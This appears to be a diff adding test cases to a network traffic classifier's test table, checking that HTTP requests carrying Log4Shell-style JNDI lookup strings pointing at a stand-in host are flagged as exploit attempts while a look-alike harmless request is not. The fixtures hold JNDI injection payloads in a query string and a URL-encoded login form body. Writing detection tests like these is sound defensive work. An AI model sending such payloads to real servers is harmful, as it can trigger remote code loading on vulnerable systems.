@@ -177,6 +177,24 @@ static const struct turn jndi[] = {
 	     "a}\x0d\x0a\x0d\x0a"),
 };
 
+static const struct turn jndi_target[] = {
+	SAYS(CLIENT,
+	     "GET /x?q=$%7Bjndi:ldap://CANARY/a%7D HTTP/1.1\x0d\x0a\x0d\x0a"),
+};
+
+static const struct turn jndi_form[] = {
+	SAYS(CLIENT,
+	     "POST /login HTTP/1.1\x0d\x0a" "Content-Type: application/x-www-"
+	     "form-urlencoded\x0d\x0a" "Content-Length: 44\x0d\x0a\x0d\x0a"
+	     "u=jndi&n=%24%7Bjndi%3Aldap%3A%2F%2FCANARY%7D"),
+};
+
+static const struct turn no_jndi[] = {
+	SAYS(CLIENT,
+	     "GET /x?q=jndi&r={jndi} HTTP/1.1\x0d\x0aUser-Agent: "
+	     "jndi:ldap tester\x0d\x0a\x0d\x0a"),
+};
+
 static const struct turn mapping[] = {
 	SAYS(CLIENT,
 	     "POST /ctl HTTP/1.1\x0d\x0aSOAPAction: \"urn:schemas-upnp"
@@ -258,6 +276,12 @@ static const struct {
 	    NULL),
 	ROW(http, 80, jndi, CLIENT, exploit_tried,
 	    "jndi"),
+	ROW(http, 80, jndi_target, CLIENT, exploit_tried,
+	    "jndi"),
+	ROW(http, 80, jndi_form, CLIENT, exploit_tried,
+	    "jndi"),
+	ROW(http, 80, no_jndi, CLIENT, exploit_tried,
+	    NULL),
 	ROW(http, 80, language, CLIENT, exploit_tried,
 	    NULL),
 	ROW(http, 80, mapping, CLIENT, port_mapping,
